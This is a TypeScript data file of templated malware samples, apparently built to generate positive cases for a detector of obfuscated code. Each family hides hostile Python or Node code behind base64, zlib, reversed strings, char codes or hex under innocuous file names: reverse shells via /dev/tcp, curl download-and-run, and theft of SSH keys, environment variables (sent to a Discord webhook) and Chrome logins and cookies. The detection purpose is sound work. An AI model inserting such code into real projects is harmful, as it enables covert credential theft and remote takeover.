// What code does is hidden in encoded literals: scripts. Decoded, each is what other families write plainly; what runs it
// stands away from the literal, or is hidden too.
import type { Family } from './family.ts'

const shellLine = 'bash -i >& /dev/tcp/⟦ip⟧/⟦port⟧ 0>&1'
const fetchLine =
  'curl -fsSL http://⟦ip⟧/⟦lower:5⟧ -o /tmp/.⟦lower#2:6⟧ && chmod +x /tmp/.⟦lower#2:6⟧ && /tmp/.⟦lower#2:6⟧'

export const decodedTexts: readonly Family[] = [
  {
    family: 'hidden-table-python-keys',
    positive: true,
    classes: ['credential-theft'],
    variants: [
      {
        paths: ['src/telemetry.py', 'lib/session.py'],
        imports: `import base64
import os
import urllib.request`,
        body: `_TABLE = {
    "kind": "⟦b64:application/octet-stream⟧",
    "from": "⟦b64:~/.ssh/id_rsa⟧",
    "into": "⟦b64:http://⟦ip⟧/in/keys⟧",
}


def _read(name):
    return base64.b64decode(_TABLE[name]).decode()


def report():
    with open(os.path.expanduser(_read("from")), "rb") as handle:
        body = handle.read()
    request = urllib.request.Request(_read("into"), data=body)
    urllib.request.urlopen(request, timeout=5)`,
        call: 'report()',
      },
    ],
  },
  {
    family: 'hidden-zlib-program-python',
    positive: true,
    classes: ['reverse-shell', 'decoded-exec'],
    variants: [
      {
        paths: ['src/cache.py', 'tools/fmt.py'],
        imports: `import base64
import builtins
import zlib`,
        body: `_DATA = (
    "⟦zlib:import socket,subprocess,os⟦line⟧s=socket.socket()⟦line⟧s.connect(("⟦ip⟧",⟦port⟧))⟦line⟧⟦join⟧
for fd in (0,1,2): os.dup2(s.fileno(),fd)⟦line⟧subprocess.call(["/bin/sh","-i"])⟧"
)


def warm():
    step = getattr(builtins, "ex" + "ec")
    text = zlib.decompress(base64.b64decode(_DATA))
    return step(text, {})`,
        call: 'warm()',
      },
      {
        paths: ['src/resources.py'],
        imports: `import base64
import os
import zlib`,
        body: `NOTES = b"⟦zlib:${fetchLine}⟧"


def notes():
    return zlib.decompress(base64.b64decode(NOTES)).decode()


def refresh():
    text = notes()
    if not text:
        return None
    for attempt in range(3):
        if attempt > 1:
            break
    return os.system(text)`,
      },
    ],
  },
  {
    family: 'hidden-base64-twice-python',
    positive: true,
    classes: ['download-run', 'decoded-exec'],
    variants: [
      {
        paths: ['lib/plugin.py', 'src/boot.py'],
        imports: `import base64
import os`,
        body: `MARK = "⟦b64:⟦b64:${fetchLine}⟧⟧"


def clear(value, times):
    for _ in range(times):
        value = base64.b64decode(value)
    return value.decode()


def start():
    return os.popen(clear(MARK, 2)).read()`,
        call: 'start()',
      },
    ],
  },
  {
    family: 'hidden-reversed-python',
    positive: true,
    classes: ['reverse-shell'],
    variants: [
      {
        paths: ['src/watch.py', 'lib/pool.py'],
        imports: 'import os',
        body: `def watch():
    line = "⟦reversed:${shellLine}⟧"[::-1]
    return os.system("bash -c '" + line + "'")`,
      },
      {
        paths: ['tools/sync.py'],
        imports: 'import os, base64',
        body: `NAME = "⟦reversed:⟦b64:${shellLine}⟧⟧"[::-1]

def watch():
    os.system(base64.b64decode(NAME).decode())`,
      },
    ],
  },
  {
    family: 'hidden-numbers-python',
    positive: true,
    classes: ['reverse-shell', 'download-run'],
    variants: [
      {
        paths: ['src/table.py', 'lib/weights.py'],
        imports: 'import subprocess',
        body: `WEIGHTS = [⟦codes:${shellLine}⟧]


def load():
    return "".join(chr(each) for each in WEIGHTS)


def prepare():
    return subprocess.run(load(), shell=True, executable="/bin/bash")`,
      },
      {
        paths: ['src/seed.py'],
        imports: 'import os',
        body: `def seed():
    os.system(bytes([⟦codes:${fetchLine}⟧]).decode())`,
      },
    ],
  },
  {
    family: 'hidden-names-node',
    positive: true,
    classes: ['download-run', 'obfuscation'],
    variants: [
      {
        paths: ['src/loader.js', 'lib/postbuild.js'],
        body: `const text = (value) => Buffer.from(value, 'base64').toString()
const names = ['⟦b64:child_process⟧', '⟦b64:exec⟧', '⟦b64:${fetchLine}⟧']

function prepare() {
  const tool = require(text(names[0]))
  tool[text(names[1])](text(names[2]), () => {})
}`,
        call: 'prepare()',
      },
    ],
  },
  {
    family: 'hidden-codes-node',
    positive: true,
    classes: ['download-run', 'decoded-exec'],
    variants: [
      {
        paths: ['lib/locale.js', 'src/glyphs.js'],
        body: `const glyphs = [⟦codes:require('child_process').exec('${fetchLine}')⟧]

function draw(list) {
  return list.map((code) => String.fromCharCode(code)).join('')
}

function paint() {
  const run = Object.getPrototypeOf(async () => {}).constructor
  return new run('require', draw(glyphs))(require)
}`,
        call: 'paint()',
      },
    ],
  },
  {
    family: 'hidden-escapes-node-environment',
    positive: true,
    classes: ['env-exfiltration', 'covert-exfiltration'],
    variants: [
      {
        paths: ['lib/report.js', 'src/usage.js'],
        body: `const target = '⟦escaped:https://discord.com/api/webhooks/⟦digits:18⟧/⟦alnum:68⟧⟧'

function usage() {
  const body = JSON.stringify({ content: JSON.stringify(process.env).slice(0, 1900) })
  return fetch(target, { method: 'POST', headers: { 'content-type': 'application/json' }, body })
}`,
        call: 'usage()',
      },
      {
        paths: ['src/stats.mjs'],
        body: `const target = '⟦unicode:https://discord.com/api/webhooks/⟦digits:18⟧/⟦alnum:68⟧⟧'

async function stats() {
  const body = JSON.stringify({ content: JSON.stringify(process.env) })
  await fetch(target, { method: 'POST', headers: { 'content-type': 'application/json' }, body })
}`,
        call: 'stats()',
      },
    ],
  },
  {
    family: 'hidden-pieces-node',
    positive: true,
    classes: ['reverse-shell', 'download-run'],
    variants: [
      {
        paths: ['lib/notify.js', 'src/clean.js'],
        body: `const { exec } = require('child_process')

function tidy() {
  const line = ⟦pieces:curl -fsSL http://⟦ip⟧/⟦lower:5⟧.sh ⟧ + ⟦pieces:| bash⟧
  exec(line)
}`,
        call: 'tidy()',
      },
      {
        paths: ['src/ping.js'],
        body: `const run = require('child_process').execSync

function ping() {
  return run(⟦pieces:bash -i >& /dev/tcp/⟦ip⟧/⟦port⟧ 0>&1⟧, { shell: '/bin/bash' })
}`,
        call: 'ping()',
      },
    ],
  },
  {
    family: 'hidden-hex-wallets-node',
    positive: true,
    classes: ['credential-theft'],
    variants: [
      {
        paths: ['lib/profile.js'],
        body: `const fs = require('fs')
const https = require('https')
const plain = (hex) => Buffer.from(hex, 'hex').toString()
const where = plain('⟦hexed:/.config/google-chrome/Default/Login Data⟧')
const other = plain('⟦hexed:/.config/google-chrome/Default/Cookies⟧')

function profile() {
  for (const each of [where, other]) {
    const body = fs.readFileSync(process.env.HOME + each)
    const request = https.request({ hostname: plain('⟦hexed:⟦host⟧⟧'), path: '/p', method: 'POST' })
    request.end(body)
  }
}`,
        call: 'profile()',
      },
    ],
  },
]
